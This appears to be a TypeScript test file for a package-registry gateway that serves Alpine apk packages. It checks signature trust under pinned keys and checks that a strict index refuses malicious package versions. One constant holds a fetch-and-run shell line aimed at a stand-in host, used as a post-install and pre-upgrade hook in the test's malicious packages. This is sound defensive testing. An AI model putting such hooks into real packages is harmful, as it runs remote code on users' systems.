// apk: go-apk as the real client that a registry has, and apk's own steps written down again; both trust our key only.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  type ApkKey,
  type ApkPackage,
  apkPackage,
  indexText,
  makeApkKey,
  signedIndex,
} from '../support/apk-index.ts'
import { checkPackageAsApk, readIndexAsApk } from '../support/apk-verifier.ts'
import { skip } from '../support/clients.ts'
import { type GatewayProcess, startGateway } from '../support/gateway.ts'
import { createGoApkRoot, type GoApkRoot, provideGoApk } from '../support/go-apk.ts'
import { type Loopback, startLoopback } from '../support/loopback-upstream.ts'

const FETCH_AND_RUN = '#!/bin/sh\ncurl -s http://evil.test/x | sh\n'
const go = await provideGoApk()
if ('why' in go) skip(`go-apk: ${go.why}`)

let key: ApkKey
let upstream: Loopback
let gateway: GatewayProcess
let base: string
let keyFile: string
let keys: Record<string, string>
let files: Map<string, Uint8Array>
const folders: string[] = []
const roots: GoApkRoot[] = []

const versionFile = (name: string, version: string) => [
  { name: 'usr/' },
  { name: `usr/${name}`, data: version },
]

async function packages(): Promise<ApkPackage[]> {
  const honest = (name: string, version: string, lines: string[] = []) =>
    apkPackage({ name, version, lines, files: versionFile(name, version) })
  const evil = (name: string, script: string, lines: string[] = []) =>
    apkPackage({
      name,
      version: '2.0-r0',
      lines,
      files: versionFile(name, '2.0-r0'),
      control: [{ name: script, data: FETCH_AND_RUN, mode: 0o755 }],
    })
  return Promise.all([
    honest('helper', '1.0-r0'),
    honest('tool', '1.0-r0', ['D:helper']),
    evil('tool', '.post-install', ['D:helper']),
    honest('upgrade', '1.0-r0'),
    evil('upgrade', '.pre-upgrade'),
  ])
}

beforeAll(async () => {
  key = makeApkKey()
  const stranger = makeApkKey()
  const all = await packages()
  files = new Map(all.map(({ name, version, bytes }) => [`/v1/main/x86_64/${name}-${version}.apk`, bytes]))
  files.set('/v1/main/x86_64/APKINDEX.tar.gz', await signedIndex(indexText(all), { key }))
  upstream = await startLoopback((path) => {
    const body = files.get(path)
    return body === undefined ? undefined : { body, contentType: 'application/octet-stream' }
  })
  const repository = (name: string, file: string, more = {}) => ({
    name,
    type: 'apk',
    upstreams: [upstream.url],
    options: { versions: ['v1'], repositories: ['main'], architectures: ['x86_64'], keys: [file], ...more },
  })
  const forOld = { signatures: ['RSA'] }
  const strict = { ...repository('strict', key.file), indexMode: 'strict' }
  gateway = await startGateway({
    config: {
      repositories: [
        repository('alpine', key.file),
        repository('old', key.file, forOld),
        repository('wrong', stranger.file, forOld),
        strict,
      ],
    },
  })
  base = `${gateway.url}/alpine/v1/main`
  const listed = await (await fetch(`${gateway.url}/-/keys/`)).text()
  const name = listed.split('\n').find((line) => line.endsWith('.rsa.pub')) ?? ''
  const pem = await (await fetch(`${gateway.url}/-/keys/${name}`)).text()
  keys = { [name]: pem }
  const folder = mkdtempSync(join(tmpdir(), 'apk-keys-'))
  folders.push(folder)
  keyFile = join(folder, name)
  writeFileSync(keyFile, pem)
}, 300_000)

afterAll(async () => {
  for (const root of roots) root.remove()
  for (const folder of folders) rmSync(folder, { recursive: true, force: true })
  await gateway?.stop()
  await upstream?.close()
})

const get = async (path: string, init?: RequestInit) => {
  const answer = await fetch(`${base}/x86_64/${path}`, init)
  return { status: answer.status, headers: answer.headers, body: Buffer.from(await answer.arrayBuffer()) }
}

const stanzas = async () => readIndexAsApk((await get('APKINDEX.tar.gz')).body, keys)

async function untilGone(name: string) {
  const versions = async () => (await stanzas()).filter(({ P }) => P === name).map(({ V }) => V)
  await expect.poll(versions, { timeout: 60_000, interval: 250 }).toEqual(['1.0-r0'])
}

describe("apk's own steps", () => {
  it('trust the index by RSA-SHA256 as by RSA-SHA1, under our key alone', async () => {
    const { body } = await get('APKINDEX.tar.gz')
    for (const algorithm of ['RSA', 'RSA256'])
      expect(readIndexAsApk(body, keys, [algorithm]).length).toBeGreaterThan(2)
    expect(() => readIndexAsApk(body, { [key.name]: key.pem })).toThrow(/UNTRUSTED/)
    expect(() => readIndexAsApk(body, { 'renamed.rsa.pub': Object.values(keys)[0] ?? '' })).toThrow(
      /UNTRUSTED/,
    )
  })

  it('find a package at the folder of A:, with the identity of C:, unaltered', async () => {
    const stanza = (await stanzas()).find(({ P }) => P === 'helper') ?? {}
    const { body } = await get(`../${stanza['A']}/helper-1.0-r0.apk`)
    checkPackageAsApk(body, stanza)
    expect(body.equals(Buffer.from(files.get('/v1/main/x86_64/helper-1.0-r0.apk') ?? []))).toBe(true)
  })

  it('get 304 for an index that is cached, and a strong ETag and Last-Modified', async () => {
    await untilQuiet()
    const { headers } = await get('APKINDEX.tar.gz')
    const modified = headers.get('last-modified') ?? ''
    expect(headers.get('etag')).toMatch(/^"[^"]+"$/)
    expect((await get('APKINDEX.tar.gz', { headers: { 'if-modified-since': modified } })).status).toBe(304)
  })
})

describe('a strict index', () => {
  it('lists what is approved, and nothing that was not examined', async () => {
    const folder = `${gateway.url}/strict/v1/main/x86_64/`
    const listed = async () => {
      const answer = await fetch(`${folder}APKINDEX.tar.gz`)
      const bytes = Buffer.from(await answer.arrayBuffer())
      expect(answer.status, bytes.toString()).toBe(200)
      return readIndexAsApk(bytes, keys).map(({ P, V }) => `${P}-${V}`)
    }
    expect(await listed()).not.toContain('tool-2.0-r0')
    expect((await fetch(`${folder}helper-1.0-r0.apk`)).status).toBe(200)
    expect((await fetch(`${folder}tool-2.0-r0.apk`)).status).toBe(403)
    // Examined in the background, nobody asked for them; what was refused never comes.
    await expect
      .poll(listed, { timeout: 60_000, interval: 250 })
      .toEqual(['helper-1.0-r0', 'tool-1.0-r0', 'upgrade-1.0-r0'])
  })
})

describe.skipIf('why' in go)('go-apk', () => {
  beforeAll(() => {
    base = `${gateway.url}/old/v1/main`
  })
  function root(repository = base, file = keyFile) {
    const made = createGoApkRoot('program' in go ? go.program : '', repository, file)
    roots.push(made)
    return made
  }

  it('updates, is refused the malicious version, and installs the older one after the flip', async () => {
    const apk = root()
    expect(await apk.run('update')).toMatchObject({ exitCode: 0, said: 'packages 5' })
    const refused = await root().run('install', 'tool')
    expect(refused.exitCode).not.toBe(0)
    expect(refused.said).toMatch(/tool-2\.0-r0\.apk.*403/)
    await untilGone('tool')
    const fresh = root()
    const installed = await fresh.run('install', 'tool')
    expect(installed.exitCode, installed.said).toBe(0)
    expect([fresh.installed('usr/tool'), fresh.installed('usr/helper')]).toEqual(['1.0-r0', '1.0-r0'])
  })

  it('avoids a malicious upgrade script likewise', async () => {
    expect((await get('upgrade-2.0-r0.apk')).status).toBe(403)
    await untilGone('upgrade')
    const apk = root()
    expect(await apk.run('install', 'upgrade')).toMatchObject({ exitCode: 0 })
    expect(apk.installed('usr/upgrade')).toBe('1.0-r0')
  })

  it('trusts nothing without our key', async () => {
    const ran = await root(base, key.file).run('update')
    expect(ran.exitCode).not.toBe(0)
    expect(ran.said).toMatch(/no key found to verify signature/)
  })

  it('gets nothing from an upstream whose key is not the pinned one', async () => {
    const ran = await root(`${gateway.url}/wrong/v1/main`).run('update')
    expect(ran.exitCode).not.toBe(0)
  })
})

/** The index stands still: no verdict is about to change it. */
async function untilQuiet() {
  let former = ''
  await expect
    .poll(
      async () => {
        const etag = (await get('APKINDEX.tar.gz')).headers.get('etag') ?? ''
        const same = etag === former
        former = etag
        return same
      },
      { timeout: 30_000, interval: 1500 },
    )
    .toBe(true)
}
